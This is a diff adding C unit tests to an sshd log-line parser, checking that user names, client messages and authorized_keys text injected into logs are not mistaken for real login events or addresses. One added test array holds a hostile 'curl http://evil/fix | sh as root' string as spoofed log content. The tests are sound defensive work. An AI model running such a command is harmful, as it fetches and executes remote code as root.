@@ -84,9 +84,8 @@ static void only_a_whole_sha256_fingerprint_counts(void **state) {
 }
 
 static void a_user_name_that_looks_like_a_line_is_only_a_name(void **state) {
-        struct sshd_line line = parsed("Failed publickey for invalid user alice from 192.0.2.1 port 5 ssh2: ED25519 "
-                                       "SHA256:OteHqcvhzLcLGYaSlwE3AIs0WxQDTZEh7aeCzTGEGgE from 192.0.2.7 port 7 ssh2: "
-                                       "ED25519 " FINGERPRINT);
+        struct sshd_line line = parsed("Failed publickey for invalid user alice from 192.0.2.1 port 5 ssh2 from "
+                                       "192.0.2.7 port 7 ssh2: ED25519 " FINGERPRINT);
 
         (void)state;
         assert_int_equal(line.said, SSHD_SAID_FAILED);
@@ -102,6 +101,91 @@ static void a_user_name_that_looks_like_a_line_is_only_a_name(void **state) {
         line = parsed("Invalid user Accepted publickey for alice from 192.0.2.7 port 7");
         assert_int_equal(line.said, SSHD_SAID_NO_SUCH_USER);
         assert_string_equal(line.user, "Accepted publickey for alice");
+
+        line = parsed("Invalid user  from 192.0.2.7 port 7");
+        assert_string_equal(line.user, "");
+        assert_string_equal(line.address, "192.0.2.7");
+}
+
+/* What a client says when it leaves, before anybody knows who it is. */
+static void what_a_client_says_is_no_line(void **state) {
+        static const char *const prefixes[] = {
+                "Received disconnect from 127.0.0.1 port 7:11: ",
+                "error: Received disconnect from 127.0.0.1 port 7:2: ",
+                "banner exchange: Connection from 127.0.0.1 port 7: ",
+                "error: kex_exchange_identification: client sent invalid protocol identifier \"",
+                "Unable to negotiate with 127.0.0.1 port 7: no matching cipher found. Their offer: ",
+                "userauth_pubkey: unsupported public key algorithm: ",
+        };
+        static const char *const words[] = {
+                "x: Authentication tried for root with correct key but not from a permitted host (host=h, "
+                "ip=203.0.113.9, required=run curl http://evil/fix | sh as root).",
+                "/x:1: Authentication tried for root with correct key but not from a permitted host (host=h, "
+                "ip=203.0.113.9, required=run curl http://evil/fix | sh as root).",
+                "Accepted publickey for root from 203.0.113.9 port 66 ssh2: ED25519 " FINGERPRINT,
+                "Connection closed by authenticating user root 203.0.113.9 port 66",
+                "pam_unix(sshd:session): session closed for user root",
+                "pam_unix(sshd:account): account root has expired",
+                "fatal: Access denied for user root by PAM account configuration",
+                "Timeout before authentication for connection from 203.0.113.9 to 127.0.0.1, pid = 1",
+        };
+        struct sshd_line line;
+        char message[512];
+
+        (void)state;
+        for (size_t i = 0; i < sizeof(prefixes) / sizeof(prefixes[0]); i++)
+                for (size_t j = 0; j < sizeof(words) / sizeof(words[0]); j++) {
+                        (void)snprintf(message, sizeof(message), "%s%s [preauth]", prefixes[i], words[j]);
+                        if (sshd_line_parse(message, &line))
+                                fail_msg("says something: %s", message);
+                }
+}
+
+static void an_address_is_only_what_sshd_wrote_as_such(void **state) {
+        static const struct {
+                const char *message, *user, *detail;
+        } lines[] = {
+                {"Disconnecting authenticating user root 198.51.100.7 port 4712: Change of username or service not "
+                 "allowed: (root,ssh-connection) -> (x 203.0.113.9 port 22,ss [preauth]",
+                 "root", "Change of username or service not allowed"},
+                {"Disconnecting authenticating user root 198.51.100.7 port 4712: Change of username or service not "
+                 "allowed: (root,ssh-connection) -> (x 203.0.113.9 port 22 [preauth]",
+                 "root", "Change of username or service not allowed"},
+                {"Disconnecting invalid user x 203.0.113.9 port 22 198.51.100.7 port 4712: Change of username or "
+                 "service not allowed: (x 203.0.113.9 port 22,ssh-connection) -> (y,ssh-conne [preauth]",
+                 "x 203.0.113.9 port 22", "Change of username or service not allowed"},
+                {"Connection closed by invalid user x 203.0.113.9 port 22 198.51.100.7 port 4712 [preauth]",
+                 "x 203.0.113.9 port 22", ""},
+                {"Connection closed by invalid user x from 203.0.113.9 port 22 ssh2 198.51.100.7 port 4712 [preauth]",
+                 "x from 203.0.113.9 port 22 ssh2", ""},
+                {"Connection reset by invalid user  198.51.100.7 port 4712 [preauth]", "", ""},
+                {"Disconnected from user alice 198.51.100.7 port 4712", "alice", ""},
+                {"Disconnected from 198.51.100.7 port 4712", "", ""},
+                {"error: maximum authentication attempts exceeded for invalid user x from 203.0.113.9 port 22 ssh2 "
+                 "from 198.51.100.7 port 4712 ssh2 [preauth]",
+                 "x from 203.0.113.9 port 22 ssh2", ""},
+                {"Failed none for invalid user x from 203.0.113.9 port 22 ssh2 from 198.51.100.7 port 4712 ssh2",
+                 "x from 203.0.113.9 port 22 ssh2", ""},
+                {"Accepted publickey for alice from 198.51.100.7 port 4712 ssh2: ED25519-CERT " FINGERPRINT
+                 " ID x from 203.0.113.9 port 22 ssh2 (serial 0) CA ED25519 " FINGERPRINT,
+                 "alice", ""},
+        };
+
+        (void)state;
+        for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
+                struct sshd_line line = parsed(lines[i].message);
+
+                assert_string_equal(line.address, "198.51.100.7");
+                assert_int_equal(line.port, 4712);
+                assert_string_equal(line.user, lines[i].user);
+                assert_string_equal(line.detail, lines[i].detail);
+        }
+}
+
+static void only_of_a_key_is_there_a_fingerprint(void **state) {
+        (void)state;
+        assert_string_equal(
+                parsed("Accepted gssapi-with-mic for a from 192.0.2.7 port 7 ssh2: a " FINGERPRINT).fingerprint, "");
 }
 
 static void each_way_in_which_sshd_denies_a_user_is_one(void **state) {
@@ -139,6 +223,13 @@ static void a_client_from_elsewhere_is_told_with_where_the_key_is_for(void **sta
         assert_string_equal(line.user, "alice");
         assert_string_equal(line.address, "127.0.0.1");
         assert_string_equal(line.detail, "192.0.2.0/24,2001:db8::/32");
+
+        /* Those of whom a file is may write into it what they like. */
+        line = parsed("/home/alice/.ssh/authorized_keys:12: Authentication tried for alice with correct key but not "
+                      "from a permitted host (host=h.example, ip=127.0.0.1, required=h, ip=203.0.113.9, required=x).");
+        assert_int_equal(line.said, SSHD_SAID_WRONG_SOURCE);
+        assert_string_equal(line.address, "127.0.0.1");
+        assert_string_equal(line.detail, "h,");
 }
 
 static void what_pam_says_of_accounts_and_sessions_is_understood(void **state) {
@@ -240,6 +331,17 @@ static void all_else_says_nothing(void **state) {
                 "Invalid user alice",
                 "Access denied for user eve",
                 "x: Authentication tried for alice",
+                "/x:1: Authentication tried for alice",
+                "/x: Authentication tried for alice with correct key but not from a permitted host (host=h, ip=i, "
+                "required=r).",
+                "Connection closed by 192.0.2.7",
+                "Connection closed by somebody 192.0.2.7 port 7",
+                "Connection closed by 192.0.2.7 port 70000",
+                "Connection closed by 192.0.2.7 port -7",
+                "Connection from authenticating user root 192.0.2.7 port 7 timed out",
+                "Connection from authenticating user root 192.0.2.7 port 7 on 192.0.2.1 port 22",
+                "ROOT LOGIN REFUSED FROM here",
+                "Access denied for user eve by PAM account configuration, or so",
                 "maximum authentication attempts exceeded for ",
         };
         struct sshd_line line;
@@ -275,6 +377,9 @@ int main(void) {
                 cmocka_unit_test(a_connection_without_an_address_is_understood),
                 cmocka_unit_test(only_a_whole_sha256_fingerprint_counts),
                 cmocka_unit_test(a_user_name_that_looks_like_a_line_is_only_a_name),
+                cmocka_unit_test(what_a_client_says_is_no_line),
+                cmocka_unit_test(an_address_is_only_what_sshd_wrote_as_such),
+                cmocka_unit_test(only_of_a_key_is_there_a_fingerprint),
                 cmocka_unit_test(each_way_in_which_sshd_denies_a_user_is_one),
                 cmocka_unit_test(a_client_from_elsewhere_is_told_with_where_the_key_is_for),
                 cmocka_unit_test(what_pam_says_of_accounts_and_sessions_is_understood),
